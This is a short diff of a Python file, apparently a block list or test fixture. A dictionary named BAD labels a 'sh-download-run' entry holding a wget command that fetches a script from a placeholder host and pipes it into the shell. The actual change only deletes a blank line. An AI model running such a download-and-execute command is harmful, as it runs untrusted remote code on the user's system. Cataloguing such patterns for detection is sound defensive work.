@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-
 BAD: dict[str, tuple[str, ...]] = {
     "sh-download-run": (
         "wget -qO- https://x.example/i.sh | sh",
